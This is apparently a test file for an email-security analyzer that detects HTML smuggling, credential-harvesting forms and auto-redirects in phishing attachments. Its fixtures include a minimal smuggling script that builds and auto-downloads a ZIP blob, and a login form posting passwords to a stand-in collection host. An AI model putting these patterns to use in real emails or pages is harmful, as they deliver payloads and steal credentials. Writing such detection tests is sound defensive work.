import { describe, expect, it } from "vitest";
import { attachmentHtmlTraits, htmlTraits } from "./html-traits.ts";
import { analyzeRaw as analyze } from "./analyze-raw.ts";

const SMUGGLER = `<script>var b=atob("UEsDBA==");var u=new Uint8Array(b.length);
var blob=new Blob([u]);var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="x.zip";a.click();</script>`;
const LOGIN = `<form action="https://collect.example/p"><input name="u"><input type="password" name="p"></form>`;

describe("htmlTraits", () => {
  it("names smuggling, password forms and redirects", () => {
    expect(htmlTraits(SMUGGLER)).toEqual(["smuggles_file"]);
    expect(htmlTraits(LOGIN)).toEqual(["password_form"]);
    expect(htmlTraits('<meta http-equiv="refresh" content="0; url=https://x.test/">')).toEqual([
      "auto_redirect",
    ]);
  });

  it("does not call decoding alone, a search form or a plain page smuggling", () => {
    expect(htmlTraits("<script>var t = atob(token); render(t);</script>")).toEqual([]);
    expect(htmlTraits('<form action="/search"><input type="text" name="q"></form>')).toEqual([]);
    expect(htmlTraits("<p>Hello</p>")).toEqual([]);
  });

  it("reads only attachments a browser opens as a page", () => {
    expect(attachmentHtmlTraits("advice.html", "application/octet-stream", Buffer.from(SMUGGLER))).toEqual([
      "smuggles_file",
    ]);
    expect(attachmentHtmlTraits("notes.txt", "text/plain", Buffer.from(SMUGGLER))).toEqual([]);
  });
});

describe("page findings", () => {
  const withPage = (filename: string, page: string, body = "see attached") =>
    [
      "From: Payments <payments@remit-notices.xyz>",
      "Subject: Remittance advice",
      'Content-Type: multipart/mixed; boundary="m"',
      "",
      "--m",
      "Content-Type: text/html",
      "",
      body,
      "--m",
      `Content-Type: text/html; name="${filename}"`,
      `Content-Disposition: attachment; filename="${filename}"`,
      "",
      page,
      "--m--",
      "",
    ].join("\r\n");
  it("flags a smuggling attachment and a local login page at their expert weights", async () => {
    const smuggling = await analyze(withPage("Remittance.html", SMUGGLER));
    expect(smuggling.find((s) => s.id === "email.attachment.html_smuggling")).toMatchObject({
      weight: 2.5,
      attack: ["T1027.006", "T1566.001"],
    });
    const login = (await analyze(withPage("Statement.htm", LOGIN))).map((s) => s.id);
    expect(login).toContain("email.attachment.credential_form");
    expect(login).not.toContain("email.attachment.html_smuggling");
  });

  it("flags a password form in the body, not an ordinary HTML body", async () => {
    expect((await analyze(withPage("a.html", "<p>hi</p>", LOGIN))).map((s) => s.id)).toContain(
      "email.html.credential_form",
    );
    const plain = (await analyze(withPage("a.html", "<p>hi</p>", "<p>Invoice attached</p>"))).map(
      (s) => s.id,
    );
    expect(plain).not.toContain("email.html.credential_form");
    expect(plain).not.toContain("email.attachment.html_smuggling");
  });
});
